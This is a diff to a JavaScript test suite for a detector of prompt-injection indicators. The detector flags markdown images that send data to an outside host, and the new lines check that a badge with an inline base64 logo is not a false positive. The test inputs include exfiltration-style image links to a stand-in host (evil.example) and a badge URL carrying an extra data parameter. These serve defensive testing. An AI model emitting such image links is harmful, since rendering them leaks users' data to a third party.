@@ -237,6 +237,10 @@ describe('injection indicators', () => {
     expect(findMarkdownExfiltration(`![a](https://evil.example/p?d=${'A'.repeat(40)})`)).toHaveLength(1);
     expect(findMarkdownExfiltration('![logo](https://example.com/logo.png)')).toEqual([]);
     expect(findMarkdownExfiltration('![logo](https://example.com/logo.png?v=2)')).toEqual([]);
+    // A README badge passes its logo inline (jsoncpp's README): an image, not data going out.
+    const logo = `data:image/png;base64%2C${'iVBORw0KGgoAAAANSUhEUgAAAA4AAAAOCAMAAAAolt3j'.repeat(4)}`;
+    expect(findMarkdownExfiltration(`[![badge](https://img.shields.io/badge/conan.io-jsoncpp%2F1.8.0-green.svg?logo=${logo})](https://bintray.com/x)`)).toEqual([]);
+    expect(findMarkdownExfiltration(`![b](https://img.shields.io/badge/x.svg?logo=${logo}&u=${'A'.repeat(40)})`)).toHaveLength(1);
   });
 
   it('finds base64 that decodes to instructions, not base64 of images or random bytes', () => {
